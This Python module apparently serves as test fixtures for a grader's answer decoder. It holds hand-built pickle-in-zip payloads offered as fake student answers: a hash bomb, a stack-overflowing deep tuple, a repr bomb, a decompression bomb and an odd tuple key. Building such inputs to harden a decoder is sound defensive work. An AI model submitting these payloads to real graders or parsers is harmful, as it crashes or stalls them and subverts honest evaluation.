"""Answer files a student can write instead of a real answer, as source a notebook can run.

``CRAFT`` is plain Python (standard library and torch only). The decoder's unit tests exec it; the
attack notebooks carry it in a cell, so each notebook reproduces its attack on its own.
"""

CRAFT = r'''
import io as _io
import struct as _struct
import zipfile as _zipfile


def torch_zip(pkl, compress=False):
    """A zip laid out like torch.save's, holding the pickle ``pkl``."""
    buf = _io.BytesIO()
    with _zipfile.ZipFile(buf, "w", _zipfile.ZIP_DEFLATED if compress else _zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\n")
    return buf.getvalue()


def _str(s):
    b = s.encode()
    return b"X" + _struct.pack("<I", len(b)) + b


def _get(i):
    return b"j" + _struct.pack("<I", i)


def _put(i):
    return b"r" + _struct.pack("<I", i)


def answer(value_ops, parts=b""):
    """{"status": "ok", "parts": (...), "value": ...}: what the grader's call template would write."""
    return (b"\x80\x02}q\x00(" + _str("status") + _str("ok") + _str("parts") + b"(" + parts + b"t"
            + _str("value") + value_ops + b"u.")


def hash_bomb(levels=64):
    """A dict whose key is t_64, with t_{i+1} = (t_i, t_i): 400 bytes, 2**64 steps to hash."""
    parts = b")" + _put(1)
    for i in range(levels):
        parts += _get(1 + i) + _get(1 + i) + b"\x86" + _put(2 + i)
    return torch_zip(answer(b"}" + _get(1 + levels) + b"K\x01s", parts))


def deep_key(depth=1_000_000):
    """A dict whose key is a tuple nested a million deep: hashing it overflows the C stack."""
    return torch_zip(answer(b"}" + b")" + b"\x85" * depth + b"K\x01s"))


def repr_bomb(levels=40):
    """l_40 with l_{i+1} = [l_i, l_i]: a kilobyte whose repr (or any walk) has 2**40 parts."""
    parts = b"]" + _put(1)
    for i in range(levels):
        parts += b"]" + _put(2 + i) + b"(" + _get(1 + i) + _get(1 + i) + b"e"
    return torch_zip(answer(_get(1 + levels), parts))


def compressed(numel=1 << 26):
    """A real torch.save of 256 MB of zeros, re-zipped with deflate: a few hundred KB on disk."""
    import torch

    raw = _io.BytesIO()
    torch.save({"status": "ok", "value": torch.zeros(numel)}, raw)
    out = _io.BytesIO()
    with _zipfile.ZipFile(_io.BytesIO(raw.getvalue())) as src, _zipfile.ZipFile(out, "w", _zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
    return out.getvalue()


def bad_key():
    """{(1, 2): 3}: a tuple key, which plain answers never need."""
    return torch_zip(answer(b"}" + b"K\x01K\x02\x86" + b"K\x03s"))
'''


def crafted() -> dict:
    namespace: dict = {}
    exec(CRAFT, namespace)  # noqa: S102
    return namespace
